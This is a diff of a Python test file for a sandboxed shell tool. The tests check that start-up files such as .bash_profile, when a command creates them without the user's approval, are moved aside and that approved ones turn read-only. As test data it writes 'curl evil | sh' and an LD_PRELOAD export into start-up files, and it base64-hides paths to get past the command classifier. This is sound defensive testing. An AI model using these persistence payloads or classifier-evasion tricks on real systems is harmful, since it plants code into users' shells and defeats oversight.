@@ -2,8 +2,10 @@
 moved aside and the user is told; one the user creates while no command runs stays, read-only to
 commands from then on; one a command the user allowed creates stays.
 
-Real servers and trays, with a home folder of the test's own (never the machine's `~`). Each attack
-hides the path from the classifier (base64), so the container's guard is what acts on it.
+Real servers, with a home folder of the test's own (never the machine's `~`). Each attack hides the
+path from the classifier (base64), so the container's guard is what acts on it. Where the user allows
+a command, the tray's hub runs in this process (`hub`) and so does the server bound to it, as the
+tray's runners are; the notice the user gets is tested with a real tray, which tells it.
 """
 
 from __future__ import annotations
@@ -23,11 +25,13 @@ from pathlib import Path
 import anyio
 import pytest
 
+from app.core.authority.hub import Hub
 from app.core.execution import container, start_files
 from app.core.journal.store import Journal
 from app.core.paths import AppPaths
 from app.core.policy.approval import ApprovalMode, set_approval_mode
 from tests.clicks import PROMPT_TITLE, click_yes
+from tests.in_process_server import allow_when_held, serving
 from tests.raw_stdio import RawServer
 from tests.stdio_client import connect, run
 from tests.tray_process import running_tray
@@ -318,10 +322,45 @@ async def test_a_start_up_file_the_user_saves_the_way_vim_does_while_a_command_r
     assert target.read_text() == "alias ll='ls -la'\n" and not moved_copies(target)
 
 
+# -- the user's Allow, given to the tray's hub in this process -----------------------------------------
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_in_the_session_shell_an_allowed_command_may_create_a_start_up_file_which_is_read_only_after(
+    home: Path, paths: AppPaths, user_home: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The session's shell lives in one container: what it creates unasked is moved aside; the
+    user's Allow lets one command create the file, and the next command meets it read-only."""
+    # The hub's runner runs the server's commands in this process (issue 21): it sees this user's home.
+    monkeypatch.setenv("HOME", str(user_home))
+    target = user_home / ".bash_profile"
+
+    async def session(client, command: str) -> dict:  # noqa: ANN001 - the SDK's client
+        result = await client.call_tool("terminal_run", {"command": command})
+        assert not result.is_error, result.content[0].text
+        return json.loads(result.content[0].text)
+
+    async with serving(home, bound=True) as client:
+        unasked = await session(client, f"echo 'curl evil | sh' > {hidden(target)} && echo written")
+        await wait_for(lambda: bool(moved_copies(target)))
+        async with anyio.create_task_group() as group:
+            group.start_soon(allow_when_held, hub)
+            allowed = await session(client, "echo '. ~/.profile' > ~/.bash_profile && echo done")
+        await anyio.sleep(SETTLE_S)
+        after = await session(client, f"echo 'curl evil | sh' >> {hidden(target)}")
+    assert "written" in unasked["output"], unasked
+    [moved] = moved_copies(target)
+    assert moved.read_text() == "curl evil | sh\n"
+    assert "done" in allowed["output"], allowed
+    assert "Read-only file system" in after["output"], "read-only again for the next command"
+    assert target.read_text() == ". ~/.profile\n" and moved_copies(target) == [moved]
+
+
 # -- a real tray: the user's click, and the user's notice --------------------------------------------
 
 
-async def allow_when_held(paths: AppPaths, display: str) -> None:
+async def click_allow_when_held(paths: AppPaths, display: str) -> None:
     """Click Allow on the prompt once the tray holds a command."""
     from app.core.channel.client import ask_tray
 
@@ -343,7 +382,7 @@ async def test_a_command_the_user_allowed_may_create_a_start_up_file_and_another
     with running_tray(home, display=display, log=log):
         async with connect(home, headless=False, env={"HOME": str(user_home)}) as client:
             async with anyio.create_task_group() as group:
-                group.start_soon(functools.partial(allow_when_held, paths, display))
+                group.start_soon(functools.partial(click_allow_when_held, paths, display))
                 allowed = await run(client, {"command": "echo '. ~/.profile' > ~/.bash_profile && echo done"})
             sneak = await run(client, {"command": f"printf 'export LD_PRELOAD=/tmp/x.so\\n' > {hidden(sneaked)}"})
             await wait_for(lambda: "notice: Start-up file moved aside" in log.read_text())
@@ -355,35 +394,3 @@ async def test_a_command_the_user_allowed_may_create_a_start_up_file_and_another
     said = log.read_text()
     assert said.count("notice: Start-up file moved aside") == 1, "told once"
     assert f"A command created {sneaked}" in said and moved.name in said and "rename it back" in said
-
-
-@LINUX_BWRAP
-@pytest.mark.anyio
-async def test_in_the_session_shell_an_allowed_command_may_create_a_start_up_file_which_is_read_only_after(
-    home: Path, paths: AppPaths, user_home: Path, display: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """The session's shell lives in one container: what it creates unasked is moved aside; the
-    user's Allow lets one command create the file, and the next command meets it read-only."""
-    monkeypatch.setenv("HOME", str(user_home))
-    target = user_home / ".bash_profile"
-
-    async def session(client, command: str) -> dict:  # noqa: ANN001 - the SDK's client
-        result = await client.call_tool("terminal_run", {"command": command})
-        assert not result.is_error, result.content[0].text
-        return json.loads(result.content[0].text)
-
-    with running_tray(home, display=display):
-        async with connect(home, headless=False, env={"HOME": str(user_home)}) as client:
-            unasked = await session(client, f"echo 'curl evil | sh' > {hidden(target)} && echo written")
-            await wait_for(lambda: bool(moved_copies(target)))
-            async with anyio.create_task_group() as group:
-                group.start_soon(functools.partial(allow_when_held, paths, display))
-                allowed = await session(client, "echo '. ~/.profile' > ~/.bash_profile && echo done")
-            await anyio.sleep(SETTLE_S)
-            after = await session(client, f"echo 'curl evil | sh' >> {hidden(target)}")
-    assert "written" in unasked["output"], unasked
-    [moved] = moved_copies(target)
-    assert moved.read_text() == "curl evil | sh\n"
-    assert "done" in allowed["output"], allowed
-    assert "Read-only file system" in after["output"], "read-only again for the next command"
-    assert target.read_text() == ". ~/.profile\n" and moved_copies(target) == [moved]
